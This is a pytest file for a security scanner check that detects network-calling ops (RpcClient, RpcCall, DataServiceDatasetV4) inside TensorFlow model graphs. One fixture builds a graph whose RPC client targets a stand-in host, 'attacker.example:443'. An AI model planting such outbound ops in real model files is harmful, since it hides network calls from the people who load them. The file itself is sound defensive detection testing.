"""modelfile.tensorflow.network-op: RPC and tf.data service ops."""

import pytest

tg = pytest.importorskip("tensorflow_graphs")
scan_bytes = tg.scan_bytes

CHECK = "modelfile.tensorflow.network-op"


def test_rpc_client_to_a_constant_address(scan_bytes, only):
    meta = tg.tf2_model(
        tg.const("address", "attacker.example:443"),
        tg.node("client", "RpcClient", ["address", "timeout"]),
        tg.node("call", "RpcCall", ["client:client:0", "method", "x", "timeout"]),
    )
    found = {f.evidence["op"]: f for f in only(scan_bytes(tg.saved_model(meta)), CHECK)}
    assert set(found) == {"RpcClient", "RpcCall"}
    assert found["RpcClient"].severity.label == "high"
    assert found["RpcClient"].evidence["paths"] == ["attacker.example:443"]


def test_data_service_dataset(scan_bytes, only):
    inputs = ["id", "mode", "address", "protocol", "job", "max", "counter"]
    graph = tg.graph(
        tg.const("address", "10.0.0.9:5050"), tg.node("ds", "DataServiceDatasetV4", inputs)
    )
    [finding] = only(scan_bytes(graph.SerializeToString()), CHECK)
    assert finding.evidence["paths"] == ["10.0.0.9:5050"]


def test_a_standard_graph_is_silent(scan_bytes, ids):
    assert CHECK not in ids(scan_bytes(tg.benign_graph().SerializeToString()))
